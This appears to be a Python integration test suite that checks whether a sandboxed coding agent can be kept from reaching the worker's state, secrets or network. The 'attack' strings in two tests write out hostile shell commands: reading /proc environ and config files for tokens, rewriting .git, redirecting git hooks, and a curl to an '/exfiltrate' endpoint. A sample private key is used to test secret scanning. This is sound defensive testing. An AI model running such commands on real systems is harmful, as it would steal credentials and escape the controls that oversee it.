"""A whole run in the sandbox the App uses: the agent works, and reaches nothing of the worker."""

from __future__ import annotations

import base64
import json
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.integration.test_pipeline import (
    PYTEST,
    MakeProject,
    Project,
    git,
    implement,
    prd,
    project_factory,
    story_commits,
)
from worker.confine.sandbox import Sandbox, SandboxMode, SandboxNetwork, make_sandbox
from worker.model.state import RunResult, StoryState

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap not installed")

SUPPORT = Path(__file__).resolve().parents[1] / "support"
WORKER_SECRET = "worker-only-secret-9c2e71"


@pytest.fixture
def make_project(tmp_path: Path) -> MakeProject:
    return project_factory(tmp_path)


def run(
    project: Project, agent_io: Path, sandbox: Sandbox, data: dict[str, Any], **extra: Any
) -> RunResult:
    data.setdefault("calls_log", str(agent_io / "calls.log"))
    scenario = agent_io / "scenario.json"
    scenario.write_text(json.dumps(data))
    return project.run(scenario, sandbox=sandbox, **extra)


def test_a_run_in_the_sandbox_plans_commits_and_passes_every_story(
    make_project: MakeProject, agent_io: Path, sandbox: Sandbox
) -> None:
    project = make_project()
    # The agent's own git works inside: it commits twice, the worker squashes as ever.
    data = {
        "plan": [{"prd": prd(2)}],
        "stories": {"US-001": [{**implement(1), "commit": "wip"}], "US-002": [implement(2)]},
    }
    result = run(project, agent_io, sandbox, data)

    assert [s.state for s in result.stories] == [StoryState.PASSED] * 2
    assert project.branch_log() == story_commits(1, 2)
    assert result.ready
    # The agent's commit never reached the mirror: only the worker's are in the repository.
    mirror = next((project.work_dir / "cache" / "mirrors").glob("*.git"))
    assert "wip" not in git(mirror, "log", "--all", "--format=%s")


def test_an_agent_in_the_sandbox_cannot_forge_state_redirect_git_or_read_secrets(
    make_project: MakeProject, agent_io: Path, sandbox: Sandbox, tmp_path: Path
) -> None:
    project = make_project()
    run_dir = project.run_dir()
    loot = "loot.txt"
    attack = (
        f"exec > {loot} 2>&1; "
        "printf 'gitdir: /tmp\\n' > .git && echo rewrote-git; "
        f"cat {run_dir}/checkpoint.json && echo read-checkpoint; "
        f"cat {project.work_dir}/cache/mirrors/*/config && echo read-mirror-config; "
        "cat /proc/1/environ; cat /proc/$PPID/environ; "
        "git config core.hooksPath /tmp && echo configured-mirror; "
        "git status --porcelain | head -3; "
        "git add -A && git commit -qm agent-commit && echo agent-committed; "
        "true"
    )
    data = {
        "plan": [{"prd": prd(1)}],
        "stories": {"US-001": [{**implement(1), "run": ["sh", "-c", attack]}]},
    }
    worker_env = {"PATH": "/usr/bin:/bin", "GITHUB_TOKEN": WORKER_SECRET}
    result = run(project, agent_io, sandbox, data, source_env=worker_env)

    assert result.stories[0].state is StoryState.PASSED
    commit = git(project.remote, "show", "--text", "--format=", "reqdrive/req-001-demo", "--", loot)
    for success in ("rewrote-git", "read-checkpoint", "read-mirror-config", WORKER_SECRET):
        assert success not in commit, commit
    assert "Read-only file system" in commit  # .git is a read-only file in there
    # The agent's git kept working on its own view: the mirror's config it could not touch.
    assert "configured-mirror" in commit and "agent-committed" in commit
    mirror = next((project.work_dir / "cache" / "mirrors").glob("*.git"))
    assert "hooksPath" not in (mirror / "config").read_text()


def test_gates_run_in_the_sandbox_too(
    make_project: MakeProject, agent_io: Path, sandbox: Sandbox, tmp_path: Path
) -> None:
    escaped = tmp_path / "gate-escaped"
    project = make_project({"testCommand": f"touch {escaped} 2>/dev/null; {PYTEST}"})
    data = {"plan": [{"prd": prd(1)}], "stories": {"US-001": [implement(1)]}}
    result = run(project, agent_io, sandbox, data)

    assert result.stories[0].state is StoryState.PASSED
    assert result.final_gates and all(g.passed for g in result.final_gates)
    assert not escaped.exists()


PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
    "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\n"
    "-----END RSA PRIVATE KEY-----\n"
)


def test_a_private_key_or_its_base64_in_a_change_is_never_committed(
    make_project: MakeProject, agent_io: Path, sandbox: Sandbox
) -> None:
    project = make_project({"maxStoryRetries": 3})
    with_key = implement(1)
    with_key["write"]["deploy/app.pem"] = PEM
    with_b64 = implement(1)
    with_b64["write"]["deploy/app.key.b64"] = base64.b64encode(PEM.encode()).decode() + "\n"
    data = {
        "plan": [{"prd": prd(1)}],
        "stories": {"US-001": [with_key, with_b64, implement(1)]},
    }
    result = run(project, agent_io, sandbox, data, secrets=(PEM,))

    first, second, third = result.stories[0].attempts
    assert "deploy/app.pem: holds a secret (plainly)" in first.reason
    assert "deploy/app.key.b64: holds a secret (base64-encoded)" in second.reason
    assert third.outcome.value == "passed"
    pushed = git(project.remote, "log", "-p", "--all")
    assert "MIIEowIBAAKCAQEAu1SU1" not in pushed and "deploy/" not in pushed


def test_a_run_with_egress_limited_reaches_the_model_api_only(
    make_project: MakeProject, agent_io: Path, tmp_path: Path
) -> None:
    """REQDRIVE_SANDBOX_NETWORK=api through a whole run: the agent's call reaches the model's
    API and is refused elsewhere; the checks pass without any network."""
    from tests.integration.test_sandbox_egress import http_server

    limited = make_sandbox(
        SandboxMode.ON,
        readonly=[Path(sys.prefix), Path(sys.base_prefix), SUPPORT],
        network=SandboxNetwork.API,
    )
    assert limited is not None
    project = make_project()
    with http_server("api") as api, http_server("other") as other:
        attack = (
            "exec > loot.txt 2>&1; "
            f"curl -s {api.url}/v1/messages; echo; "
            f"curl -s {other.url}/exfiltrate; echo; "
            "true"
        )
        data = {
            "plan": [{"prd": prd(1)}],
            "stories": {"US-001": [{**implement(1), "run": ["sh", "-c", attack]}]},
        }
        env = {"PATH": "/usr/bin:/bin", "ANTHROPIC_BASE_URL": api.url}
        result = run(project, agent_io, limited.bind(writable=[agent_io]), data, source_env=env)

    assert result.stories[0].state is StoryState.PASSED
    commit = git(
        project.remote, "show", "--text", "--format=", "reqdrive/req-001-demo", "--", "loot.txt"
    )
    assert "api answered /v1/messages" in commit
    assert f"egress refused: GET 127.0.0.1:{other.url.rsplit(':', 1)[1]}" in commit
    assert "/v1/messages" in api.paths and other.paths == []
